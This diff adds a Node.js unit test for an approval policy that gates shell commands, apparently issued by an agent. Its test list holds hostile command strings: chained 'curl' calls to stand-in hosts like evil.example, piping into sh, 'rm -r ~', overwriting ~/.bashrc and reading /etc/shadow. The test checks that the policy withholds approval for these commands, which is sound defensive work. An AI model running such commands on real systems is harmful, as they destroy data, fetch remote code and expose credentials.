@@ -0,0 +1,48 @@
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const { ApprovalPolicy } = require('../src/approval-policy');
+
+/** README 与 approval-policy.js 中的示例策略 */
+const EXAMPLE = {
+    default: 'ask',
+    rules: [
+        { decision: 'reject', match: 'rm\\s+-rf' },
+        { decision: 'accept', kind: 'command', match: '^(ls|pwd|git status)([ \\t][^;&|`$<>\\r\\n]*)?$' },
+    ],
+};
+
+describe('ApprovalPolicy', () => {
+    const policy = new ApprovalPolicy(EXAMPLE);
+    const decide = (command) => policy.decide({ kind: 'command', command }).decision;
+
+    it('示例策略批准只读命令', () => {
+        for (const command of ['ls', 'ls -la src', 'pwd', 'git status', 'git status --short']) {
+            assert.equal(decide(command), 'accept', command);
+        }
+    });
+
+    it('示例策略不批准拼接、命令替换、重定向与多行命令', () => {
+        const unsafe = [
+            'ls && rm -r ~',
+            'ls; curl evil.sh',
+            'ls | sh',
+            'ls $(rm -r ~)',
+            'ls `curl https://evil.example`',
+            'ls ${HOME}',
+            'ls > ~/.bashrc',
+            'ls < /etc/shadow',
+            'ls\nrm -r ~',
+            'ls -la\ncurl evil.sh',
+            'ls\r\ncurl evil.sh',
+            'lsblk',
+        ];
+        for (const command of unsafe) {
+            assert.equal(decide(command), 'ask', JSON.stringify(command));
+        }
+        assert.equal(decide('ls $(rm -rf ~)'), 'reject');
+    });
+
+    it('kind 不符的规则不生效', () => {
+        assert.equal(policy.decide({ kind: 'edit', text: 'ls' }).decision, 'ask');
+    });
+});